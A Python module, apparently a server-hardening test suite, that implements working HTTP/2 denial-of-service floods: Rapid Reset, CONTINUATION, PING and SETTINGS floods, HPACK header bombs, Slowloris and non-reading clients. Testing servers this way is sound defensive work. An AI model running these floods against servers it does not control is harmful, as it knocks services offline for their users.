"""Floods: what a hostile client can do for a while. Each opens a new connection when the server has closed the last one,
and answers how often that happened."""

import functools
import socket
import struct
import time

from http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RESET, SETTINGS, WINDOW,
                   Wire, field, frame, message, request_block, text)
from probe import PUT_PATH, RANGE

BIG = b"\x0a\x03big"


class Flood:
    def __init__(self, name, run, must_close):
        """`run(address, seconds)`; `must_close`: whether the server has to end such a connection."""
        self.name, self.run, self.must_close = name, run, must_close


def put_big(address):
    """A value large enough that clients which do not read it are a burden. Whether it was put."""
    wire = Wire(address)
    body = message(BIG + b"\x12" + b"\x80\x80\x04" + b"x" * (64 << 10))
    wire.send(frame(WINDOW, 0, 0, struct.pack(">I", 1 << 20)) + frame(HEADERS, END_HEADERS, 1, request_block(PUT_PATH)))
    for at in range(0, len(body), 16_384):
        # The window opens again when the first bytes have been taken.
        wire.wait_for({WINDOW}, 0.05)
        wire.send(frame(DATA, END_STREAM if at + 16_384 >= len(body) else 0, 1, body[at : at + 16_384]))
    answered = (wire.answer(1) or ("",))[0] == "answer"
    wire.close()
    return answered


# MARK: Bytes over and over

def flooding(data, opening=b"", connections=1):
    """A flood that sends the bytes over and over, on so many connections at once; `data` may be a function of a counter.
    What it answers is remembered: the attacker's time should be the server's, not its own."""
    bytes_of = functools.cache(data) if callable(data) else lambda count: data

    def run(address, seconds):
        deadline, closed, open_wires = time.monotonic() + seconds, 0, []
        while time.monotonic() < deadline:
            while len(open_wires) < connections:
                try:
                    wire = Wire(address, timeout=1)
                except OSError:
                    time.sleep(0.01)
                    break
                wire.send(opening)
                open_wires.append((wire, iter(range(1 << 20))))
            for wire, counter in open_wires:
                if wire.is_still_open():
                    wire.send(bytes_of(next(counter)))
            closed += sum(not wire.is_open for wire, _ in open_wires)
            for wire, _ in open_wires:
                if not wire.is_open:
                    wire.close()
            open_wires = [pair for pair in open_wires if pair[0].is_open]
        for wire, _ in open_wires:
            wire.close()
        return closed

    return run


def streams(count, each):
    """What `each` says of a stream, for the next hundred of them."""
    return b"".join(each(stream) for stream in range(1 + 200 * count, 201 + 200 * count, 2))


def rapid_resets(count):
    return streams(count, lambda stream: frame(HEADERS, END_HEADERS, stream, request_block())
                   + frame(RESET, 0, stream, b"\0\0\0\x08"))


def provoked_resets(count):
    """Streams that the server has to reset: a window update of 0."""
    return streams(count, lambda stream: frame(HEADERS, END_HEADERS, stream, request_block())
                   + frame(WINDOW, 0, stream, b"\0\0\0\0"))


def unfinished(count):
    return streams(count, lambda stream: frame(HEADERS, END_HEADERS, stream, request_block(PUT_PATH)))


def header_bomb(count):
    """Header blocks that grow by references into the table: 4 KiB once, then 60 references of a byte each."""
    bomb = b"\x40" + text("x") + text("y" * 4000) + b"\xbe" * 60
    return frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * count, bomb)


# MARK: Connections that misbehave by what they do not do

def ranges(key, first=1):
    return b"".join(frame(HEADERS, END_HEADERS, stream, request_block()) + frame(DATA, END_STREAM, stream, message(key))
                    for stream in range(first, first + 200, 2))


def deaf(address, seconds):
    """Clients that let windows of 0 be, and never read: 100 large ranges each, at most 40 of them at a time."""
    deadline, wires = time.monotonic() + seconds, []
    requests = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + ranges(BIG)
    while time.monotonic() < deadline:
        wire = Wire(address, handshake=False)
        wire.send(requests)
        wires.append(wire)
        if len(wires) > 40:
            wires.pop(0).close()
        time.sleep(0.005)
    for wire in wires:
        wire.close()
    return 0


def slow(address, seconds):
    """Slowloris: 300 connections that have said a little, each in another state, and say a byte now and then."""
    begun = [b"", b"P", PREFACE[:20], PREFACE, PREFACE + frame(SETTINGS)[:5],
             PREFACE + frame(SETTINGS) + frame(HEADERS, 0, 1, request_block()),
             PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 1, request_block(PUT_PATH))
             + frame(DATA, 0, 1, message(b"x", claimed=1 << 20)), b"GET /health HTTP/1.1\r\nhost: x\r\n"]
    wires = []
    for number in range(300):
        wire = Wire(address, handshake=False)
        wire.send(begun[number % len(begun)])
        wires.append(wire)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        time.sleep(0.1)
        for wire in wires:
            if wire.is_open:
                wire.send(b"\0")
    for wire in wires:
        wire.close()
    return 0


def churn(address, seconds):
    """Connections that come and go without a word."""
    deadline, count = time.monotonic() + seconds, 0
    host, port = address.split(":")
    while time.monotonic() < deadline:
        try:
            socket.create_connection((host, int(port)), timeout=1).close()
        except OSError:
            pass
        count += 1
    return count


def greedy(address, seconds):
    """A client that keeps to every rule and asks a hundred times at once, again and again."""
    deadline, wire, first = time.monotonic() + seconds, None, 1
    while time.monotonic() < deadline:
        if wire is None or first > 100_000:
            wire, first = Wire(address), 1
            wire.send(frame(WINDOW, 0, 0, struct.pack(">I", 1 << 30)))
        wire.send(ranges(RANGE, first))
        left = 100
        for kind, flags, _, _ in wire.frames(5):
            left -= kind == HEADERS and bool(flags & END_STREAM)
            if left == 0:
                break
        if not wire.is_open:
            wire = None
        first += 200
    if wire:
        wire.close()
    return 0


FLOODS = [
    Flood("rapid reset", flooding(rapid_resets), True),
    Flood("rapid reset on 30 connections", flooding(rapid_resets, connections=30), True),
    Flood("resets provoked by bad frames", flooding(provoked_resets), True),
    Flood("CONTINUATION", flooding(frame(CONTINUATION, 0, 1, field("x", "y" * 1000)) * 10,
                                   opening=frame(HEADERS, 0, 1, request_block())), True),
    Flood("empty CONTINUATION", flooding(frame(CONTINUATION, 0, 1) * 500,
                                         opening=frame(HEADERS, 0, 1, request_block())), True),
    Flood("PING", flooding(frame(PING, 0, 0, b"12345678") * 500), True),
    Flood("PING on 30 connections", flooding(frame(PING, 0, 0, b"12345678") * 500, connections=30), True),
    Flood("SETTINGS", flooding(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 500), True),
    Flood("empty DATA", flooding(frame(DATA, 0, 1) * 500, opening=frame(HEADERS, END_HEADERS, 1, request_block(PUT_PATH))),
          True),
    Flood("PRIORITY", flooding(frame(PRIORITY, 0, 3, b"\0\0\0\0\0") * 500), True),
    Flood("WINDOW_UPDATE", flooding(frame(WINDOW, 0, 1, b"\0\0\0\1") * 500,
                                    opening=frame(HEADERS, END_HEADERS, 1, request_block(PUT_PATH))), True),
    Flood("unknown frames", flooding(frame(99, 0, 0, b"x" * 100) * 500), True),
    Flood("header bombs", flooding(header_bomb), True),
    Flood("streams without an end", flooding(unfinished), True),
    Flood("clients that do not read", deaf, False),
    Flood("slow clients", slow, False),
    Flood("connections that come and go", churn, False),
    Flood("a greedy client", greedy, False),
]
